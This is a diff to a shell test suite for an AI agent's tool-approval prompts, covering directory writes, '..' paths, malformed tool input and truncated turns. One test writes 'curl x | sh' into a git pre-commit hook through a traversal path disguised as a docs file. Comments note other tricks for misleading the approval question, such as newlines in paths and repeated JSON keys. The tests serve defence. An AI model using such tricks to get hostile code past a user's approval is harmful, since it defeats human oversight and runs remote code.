@@ -888,6 +888,14 @@ ask_case ag-approve-dir-path-not-asked "a write to a path naming a directory (d.
 	'[]' 0 \
 	'[ "$(cat "$W/d.txt")" = keep ] && ! grep -q "allow?" "$D/pty" && grep -q "names a directory" "$D/req-2.json"'
 rm -f "$W/d.txt"
+# A directory already at the path: the question said "all of it is
+# replaced by the text below", and the write then refused it.
+mkdir -p "$W/adir/sub"; echo keep > "$W/adir/sub/f"
+ask_case ag-approve-existing-dir-not-asked "a write or edit of a path where a directory stands is not put to the user (the question said the directory would be replaced): the model gets the tool's refusal" \
+	write '{"path":"adir","content":"x"}' \
+	'[]' 0 \
+	'[ "$(cat "$W/adir/sub/f")" = keep ] && ! grep -q "allow?" "$D/pty" && grep -q "adir. is a directory — name a file" "$D/req-2.json"'
+rm -rf "$W/adir"
 printf 'a = false\nkeep\nb = false\n' > "$W/conf.txt"
 ask_case ag-approve-diff-replace-all "an edit with replace_all shows every change it makes" \
 	edit '{"path":"conf.txt","old":"false","new":"true","replace_all":true}' \
@@ -960,6 +968,19 @@ ask_case ag-approve-diff-unreadable "a write over a file the user cannot read is
 	'[["allow?","n"],["reason","\r"]]' 0 \
 	'! grep -q "^--- /dev/null" "$D/pty" && { [ "$(id -u)" -eq 0 ] && grep -q "^-kept" "$D/pty" || grep -q "the current .locked.txt. is not compared — it could not be read" "$D/pty"; }'
 rm -f "$W/locked.txt"
+# The tools take a path's '..' away before they reach the file: the
+# question showed 'docs/guide/v1/../../../.git/hooks/pre-commit', which
+# the eye reads as a file under docs/, for a write of a git hook.
+mkdir -p "$W/docs/guide/v1" "$W/.git/hooks"
+ask_case ag-approve-path-dotdot-named "a write's path holding '..' is named in the question as the file it reaches" \
+	write '{"path":"docs/guide/v1/../../../.git/hooks/pre-commit","content":"curl x | sh\n"}' \
+	'[["allow?","n"],["reason","\r"]]' 0 \
+	'[ ! -e "$W/.git/hooks/pre-commit" ] && python3 -c "
+b=open(\"$D/pty\",\"rb\").read().replace(b\"\r\",b\"\")
+q=b[b.index(b\"asks to run write\"):b.index(b\"allow?\")]
+assert b\"\n(without its .. the path is .git/hooks/pre-commit: the file this call changes)\n\" in q, q
+"'
+rm -rf "$W/docs" "$W/.git"
 # A path is one line wherever the question shows it: a newline in it
 # would otherwise draw diff lines of the model's choosing (a hunk that
 # "changes" another file) around the real one.
@@ -1127,6 +1148,40 @@ input_refused ag-tool-input-nested "a tool call whose input nests objects or arr
 	toolu_j1 '{"path":"nested.txt","content":"x","extra":[1,1,1]}' "is not a flat JSON object of at most 32 members" nested.txt
 input_refused ag-tool-input-repeated "a tool call naming a member twice is not run (a tool takes the first, the question may be read for the second)" \
 	toolu_d1 '{"path":"first.txt","content":"x","path":"second.txt"}' "names a member twice" first.txt second.txt
+
+# An answer that stops to use a tool, when no call of it can run, is no
+# answer: the turn ended as "end_turn" with exit 0 and is_error false, so
+# a script took a task the model never got to do for one done.
+t_start ag-tool-calls-none-ran "an answer that stops for tool calls none of which could run (input not JSON) ends the turn as incomplete: exit 2, stop_reason tool_use, said on stderr; no further request"
+mock_dir
+sse_tool toolu_n1 read '{"path": "a.txt", }' > "$D/r1.sse"
+sse_text "unused" > "$D/r2.sse"
+mock_rounds 2 5
+ar --output jsonl -- go
+mock_stop
+if [ $RC -eq 2 ] && [ ! -e "$D/req-2.json" ] && grep -q "(toolu_n1) is not a JSON object — the call was not run" "$D/out" &&
+	grep -q "^sandbx: the model stopped for tool calls and none of them could run" "$D/err" && python3 -c "
+import json
+r = [json.loads(l) for l in open('$D/out')][-1]
+assert r['type'] == 'result' and r['stop_reason'] == 'tool_use' and r['is_error'] is False, r
+"; then t_pass
+else t_fail "rc=$RC $(cat "$D/err") $(tail -n 1 "$D/out")"; fi
+# An answer the API cut because the conversation filled the model's
+# context window is cut short as one cut by max_tokens is: it ended as
+# "end_turn", exit 0, and a script took the half answer for the whole.
+t_start ag-context-window-cut "an answer stopped by model_context_window_exceeded ends the turn as incomplete: exit 2, that stop_reason in the result, and a message saying the conversation is too long"
+mock_dir
+sse_text "the first half" | sed 's/"stop_reason":"end_turn"/"stop_reason":"model_context_window_exceeded"/' > "$D/r1.sse"
+mock_rounds 1
+ar --output jsonl -- go
+mock_stop
+if [ $RC -eq 2 ] && grep -q "the first half" "$D/out" &&
+	grep -q "^sandbx: the answer was cut short: the conversation fills the model's context window" "$D/err" && python3 -c "
+import json
+r = [json.loads(l) for l in open('$D/out')][-1]
+assert r['type'] == 'result' and r['stop_reason'] == 'model_context_window_exceeded' and r['is_error'] is False, r
+"; then t_pass
+else t_fail "rc=$RC $(cat "$D/err") $(tail -n 1 "$D/out")"; fi
 
 # sse_calls FILE MSGID ID:NAME:JSON...: one answer asking for these calls, in order.
 sse_calls() {
@@ -1511,7 +1566,8 @@ sse_text "done" > "$D/r4.sse"
 mock_rounds 4
 ar -- go
 mock_stop
-if [ $RC -eq 0 ] && python3 -c "
+# exit 2: the third answer's one call, refused, could not run (ag-tool-calls-none-ran)
+if [ $RC -eq 2 ] && python3 -c "
 import re
 err=open('$D/err','rb').read()
 lines=err.split(b'\n')
